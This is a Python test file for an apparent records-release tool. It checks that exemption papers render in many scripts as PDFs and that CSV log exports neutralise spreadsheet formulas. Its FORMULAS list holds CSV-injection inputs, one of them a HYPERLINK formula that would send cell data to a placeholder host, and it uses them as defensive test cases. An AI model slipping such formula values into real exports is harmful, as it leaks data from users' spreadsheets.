"""Papers set every script; what no font has stands as its number and stops nothing."""

from __future__ import annotations

import csv
import io

import pytest

from bodyworn.domain.span import Span
from bodyworn.releases import papers
from bodyworn.releases.exemptions import Exemption, to_csv, to_lines
from bodyworn.releases.papers import ExemptionPaper, to_pdf

SCRIPTS = {
    "Chinese and Japanese": "東京新聞",
    "Korean": "경찰",
    "Thai": "ตำรวจ",
    "Amharic": "ፖሊስ",
    "emoji": "🚓",
    "Hebrew": "משטרה",
    "Arabic": "شرطة",
    "Devanagari": "पुलिस",
    "Vietnamese": "Nguyễn",
}


def paper(text: str) -> bytes:
    return to_pdf("exemptions", ExemptionPaper("rel_1", text, text, "ab", "cd", ()))


@pytest.mark.parametrize("script", SCRIPTS)
def test_every_script_is_set_in_a_font_and_not_as_numbers(script: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(papers, "_spelled_out", lambda data, _error: data)
    assert paper(SCRIPTS[script]).startswith(b"%PDF")


def test_a_letter_that_no_font_has_stands_as_its_number() -> None:
    assert paper("A stop by \U0003134a").startswith(b"%PDF")


FORMULAS = ('=HYPERLINK("http://example.org/?"&A1,"click")', "+1", "-1", "@SUM(A1)", "\t=1", "\n=1", " =1", "\uff1d1")


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_of_the_log_is_a_formula(text: str) -> None:
    log = [Exemption(text, Span(0, 1000), "picture", text, text)]
    (_, row) = csv.reader(io.StringIO(to_csv(log)))
    for cell in (row[0], row[-1]):
        assert cell.startswith("'")
    assert to_lines(log)[0].id == text, "the PDF calculates nothing"
